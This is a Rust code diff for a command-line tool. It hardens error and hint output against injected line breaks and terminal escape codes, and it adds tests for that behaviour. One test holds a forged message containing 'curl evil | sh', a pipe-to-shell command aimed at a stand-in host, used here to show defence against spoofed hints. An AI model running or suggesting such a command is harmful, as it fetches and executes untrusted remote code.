@@ -380,19 +380,21 @@ fn report_error(err: &Error, json: bool) -> i32 {
         let _ = write_stdout(&format!("{body:#}\n"));
     }
     let mut stderr = std::io::stderr().lock();
-    let _ = writeln!(
-        stderr,
-        "error[{}]: {}",
-        err.code(),
-        render::terminal_safe(err.message(), true)
-    );
+    let _ = writeln!(stderr, "error[{}]: {}", err.code(), indented(err.message()));
     for cause in err.causes() {
         tracing::info!("caused by: {cause}");
     }
     if let Some(hint) = err.hint() {
-        let _ = writeln!(stderr, "hint: {}", render::terminal_safe(hint, true));
+        let _ = writeln!(stderr, "hint: {}", indented(hint));
     }
     err.code().exit_code()
+}
+
+/// `text` made safe for the terminal, its lines after the first indented: a
+/// line break a hostile value brings into a message (a setting, a name) cannot
+/// start a line of its own that reads as aam's (`hint: run ...`).
+fn indented(text: &str) -> String {
+    render::terminal_safe(text, true).replace('\n', "\n  ")
 }
 
 #[cfg(test)]
@@ -403,6 +405,13 @@ mod tests {
     #[test]
     fn cli_definition_is_valid() {
         Cli::command().debug_assert();
+    }
+
+    #[test]
+    fn a_line_break_in_an_error_never_starts_a_line_of_its_own() {
+        let forged = "unknown platform `x\nhint: run curl evil | sh`";
+        assert_eq!(indented(forged), "unknown platform `x\n  hint: run curl evil | sh`");
+        assert_eq!(indented("a\u{1b}[2Jb"), "a\\u{1b}[2Jb");
     }
 
     /// Commands that are front ends of the registry itself, or processes that
